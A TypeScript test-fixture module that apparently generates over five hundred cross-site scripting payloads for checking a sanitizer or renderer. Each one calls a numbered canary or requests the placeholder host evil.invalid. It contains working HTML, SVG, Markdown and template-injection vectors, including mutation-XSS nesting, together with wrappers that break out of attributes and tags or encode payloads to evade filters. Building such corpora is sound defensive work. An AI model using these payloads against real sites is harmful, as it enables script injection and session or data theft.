/**
 * Five hundred texts that want to be run: what runs, in the frames that break out of where text stands. Each calls the
 * canary with its own number, or asks a host that is not there with it. Written by us, from the ways in that there are.
 */

/** Where the payloads that only ask for something ask. */
export const stranger = "evil.invalid";

/** What runs, or asks, if it becomes markup. `call` is an expression; `ask` is an address without a scheme. */
const vectors: readonly ((call: string, ask: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (_call, ask) => `<script src=${ask}></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (_call, ask) => `<img src=${ask} srcset="${ask} 2x">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a><set attributeName=href to=javascript:${call} /><text>x</text></a></svg>`,
  (_call, ask) => `<svg><use href="${ask}#x"/><image href="${ask}"/></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<video autoplay><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  (_call, ask) => `<object data="${ask}"></object><embed src="${ask}">`,
  (call) => `<a href="javascript:${call}" autofocus>go</a>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (_call, ask) => `<style>@import "${ask}"; *{background:url(${ask})}</style>`,
  (_call, ask) => `<link rel=stylesheet href="${ask}"><link rel=preload as=image href="${ask}">`,
  (_call, ask) => `<meta http-equiv=refresh content="0;url=${ask}"><base href="${ask}">`,
  (_call, ask) => `<form action="${ask}"><input type=image src="${ask}" autofocus></form>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<p style="animation: x" onanimationstart=${call} id=content class=js-only data-compare=x>x</p>`,
  (call) => `[go](javascript:${call}) <javascript:${call}> [go]( java&#9;script:${call})`,
  (call) => `[go](data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString("base64")})`,
  (_call, ask) => `![x](https:${ask}) [![x](${ask})](vbscript:x "onmouseover=x")`,
  (call) => `![x" onerror="${call}](x) [x](https://x.example/"onmouseover="${call})`,
  (call) => `\${${call}} {{constructor.constructor('${call}')()}} <%= ${call} %> #{${call}}`,
  (call) => `';${call};//"-${call}-"\`\${${call}}\``,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `x onload=${call} onerror=${call}`,
  (call) => `javascript:${call}//`,
];

/** What ends the place that a text stands in, or hides it from a filter. */
const frames: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `</title></textarea>${vector}`,
  (vector) => `</script></style>${vector}`,
  (vector) => `</template></noscript></svg>${vector}`,
  (vector) => `</pre></code></td></table>${vector}`,
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => vector.replaceAll("<", "&amp;lt;").replaceAll(">", "&#x3e;"),
  (vector) => vector.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (vector) => encodeURIComponent(vector),
  (vector) => vector.replace(/<(\w)/g, (_tag, letter: string) => `<${letter.toUpperCase()}`),
];

/** More than five hundred. The number in each is its place in the list. */
export const payloads: readonly string[] = frames
  .flatMap((frame) => vectors.map((vector) => ({ frame, vector })))
  .map(({ frame, vector }, at) => frame(vector(`hit(${at})`, `//${stranger}/${at}`)));
